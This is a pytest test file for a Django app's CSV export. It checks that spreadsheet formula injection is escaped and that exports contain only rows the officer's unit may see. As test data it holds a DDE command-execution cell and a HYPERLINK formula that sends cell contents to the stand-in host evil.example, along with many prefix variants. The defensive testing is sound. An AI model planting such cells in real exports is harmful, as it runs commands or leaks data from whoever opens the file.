"""A16: no cell of an export runs in a spreadsheet, and a file contains exactly the rows that its reader may see."""

import csv
import re
from collections.abc import Callable
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.test import Client

from binhyen.cases.tests.scene import open_case
from binhyen.kit import csv_export

STARTS = ["=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦"]
BEFORE = [
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\0",
    "\x01",
    '"',
    '""',
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u202e",
    " \t\r\n",
    '"\t',
]
BODIES = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?"&A1,"x")', "IMPORTXML(1)", "DDE(1)"]
FORMULAS = [f"{before}{start}{BODIES[n % 5]}" for n, start in enumerate(STARTS) for before in BEFORE]
INSIDE = [f"chữ;{start}1+1" for start in STARTS] + [f"chữ;  {start}1" for start in STARTS[:4]] + ["a\t=1+1"]
_DROPPED = re.compile(r"[\s\"\x00-\x20\u00a0\u200b-\u200f\u202a-\u202e\u2060\ufeff]*")


def is_formula(value: str) -> bool:
    """Return whether a spreadsheet would evaluate this cell, or a part of it, as a formula."""
    pieces = [value, *re.split("[;\t]", value)]
    return "\0" in value or any(_DROPPED.sub("", p, count=1).startswith(tuple(STARTS)) for p in pieces)


def parse_rows(content: bytes) -> list[list[str]]:
    """Return the rows below the header."""
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))[1:]


def check_cells(values: list[str]) -> None:
    rows = parse_rows(csv_export.csv_response("a.csv", ["Ô"], [[v] for v in values]).content)
    assert len(rows) == len(values)
    assert [row for row in rows if len(row) != 1 or is_formula(row[0])] == []


def test_no_cell_is_a_formula() -> None:
    assert len(FORMULAS) >= 200
    assert all(is_formula(value) for value in FORMULAS + INSIDE), "control: each would run unescaped"
    check_cells(FORMULAS + INSIDE)


@pytest.mark.parametrize("defect", [lambda v: v, lambda v: f"'{v}" if v.startswith(("=", "+", "-", "@")) else v])
def test_control_cells_that_only_look_safe_are_found(
    monkeypatch: pytest.MonkeyPatch, defect: Callable[[str], str]
) -> None:
    monkeypatch.setattr(csv_export, "escape_cell", defect)
    with pytest.raises(AssertionError):
        check_cells(FORMULAS + INSIDE)


@pytest.mark.parametrize(
    "words", ["thôn 5", "Nguyễn Văn A", "0912 345 678", "a=b", "nhà 3-4, ngõ 5", "5 %", "chữ; chữ"]
)
def test_plain_words_stay_as_they_are(words: str) -> None:
    assert csv_export.escape_cell(words) == words


def test_only_one_file_writes_csv() -> None:
    root = Path(settings.BASE_DIR) / "binhyen"
    writers = [
        p
        for p in root.rglob("*.py")
        if "tests" not in p.parts and re.search(r"csv\.(writer|DictWriter)", p.read_text())
    ]
    assert [p.name for p in writers] == ["csv_export.py"]


def export_rows(client: Client, **filters: str) -> list[list[str]]:
    answer = client.get("/ban-truc.csv", {"xem": "tat-ca", **filters})
    assert answer.status_code == 200
    return parse_rows(answer.content)


def check_scope(officer: Any, unit: Any) -> None:
    """Check every filter: the other unit, the whole province, each case by its text."""
    visible_codes = {open_case(unit("18568"), place=f"Nơi {n}", title="=1+1").code for n in range(3)}
    other_codes = {open_case(unit("18073"), place=f"Xa {n}").code for n in range(3)}
    client = Client()
    client.force_login(officer("CHIEF", "18568"))
    asked: list[dict[str, str]] = [{}, {"xa": "18073"}, {"don-vi": "18073"}, {"q": "Xa"}, {"xem": "tat-ca", "xa": ""}]
    for filters in asked:
        got = {row[0].replace("-", "") for row in export_rows(client, **filters)}
        assert got <= visible_codes and not got & other_codes, filters
    assert {row[0].replace("-", "") for row in export_rows(client)} == visible_codes


@pytest.mark.django_db
def test_a_file_has_no_row_that_its_reader_may_not_see(officer: Any, unit: Any) -> None:
    check_scope(officer, unit)


@pytest.mark.django_db
def test_control_a_row_too_many_is_found(officer: Any, unit: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    from binhyen.cases.views import desk

    plain = desk.list_export_rows

    def export_too_much(*a: Any, **k: Any) -> list[dict[str, Any]]:
        exported = list(plain(*a, **k))
        # row-level security would hide another unit's
        return [*exported, *({**row, "code": "LEAK2222"} for row in exported[:1])]

    monkeypatch.setattr(desk, "list_export_rows", export_too_much)
    with pytest.raises(AssertionError):
        check_scope(officer, unit)
